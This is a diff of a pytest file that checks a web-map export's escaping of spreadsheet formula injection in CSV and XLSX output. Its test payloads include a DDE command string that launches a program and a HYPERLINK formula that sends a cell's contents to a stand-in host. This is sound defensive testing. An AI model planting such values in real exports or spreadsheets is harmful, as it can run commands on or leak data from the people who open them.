@@ -10,10 +10,10 @@ import pytest
 
 from tests.exports.making import listed
 from tests.exports.reading import rows_of, written
-from webmap.exports.request import Asked, What
+from webmap.exports.request import ExportRequest, Subject
 from webmap.exports.xlsx.book import sheet_names
 from webmap.view.audience import OFFICE
-from webmap.vocabulary.text import harmless
+from webmap.vocabulary.text import escape_formula
 
 PAYLOADS = (
     "=1+2", "+1+2", "-1+2", "@SUM(1+9)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?\"&A1,\"x\")",
@@ -23,7 +23,7 @@ PAYLOADS = (
 )  # fmt: skip
 STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "﹦", "−")
 TEXTS = ("name", "name_en", "address", "id", "key")
-ASKED = Asked(what=What.SCHOOLS, language="en")
+ASKED = ExportRequest(what=Subject.SCHOOLS, language="en")
 
 
 def hostile_view(view_of):
@@ -40,12 +40,12 @@ def hostile_view(view_of):
 
 @pytest.mark.parametrize("text", PAYLOADS)
 def test_a_payload_is_made_harmless(text):
-    assert harmless(text) == f"'{text}"
+    assert escape_formula(text) == f"'{text}"
 
 
 @pytest.mark.parametrize("text", ["가상고등학교", "St. Mary's", "1-2", "a=b", "'quoted", "(=x)", ""])
 def test_plain_text_stays_as_it_is(text):
-    assert harmless(text) == text
+    assert escape_formula(text) == text
 
 
 def test_no_cell_of_a_csv_file_begins_a_formula(view_of, tmp_path):
@@ -56,7 +56,9 @@ def test_no_cell_of_a_csv_file_begins_a_formula(view_of, tmp_path):
 
 
 def test_no_cell_of_a_workbook_is_a_formula_but_ours(view_of, tmp_path):
-    path = written(hostile_view(view_of), Asked(what=What.SCHOOLS, unplaced=True), "xlsx", tmp_path)
+    path = written(
+        hostile_view(view_of), ExportRequest(what=Subject.SCHOOLS, unplaced=True), "xlsx", tmp_path
+    )
     book = openpyxl.load_workbook(path)
     formulas = [
         cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
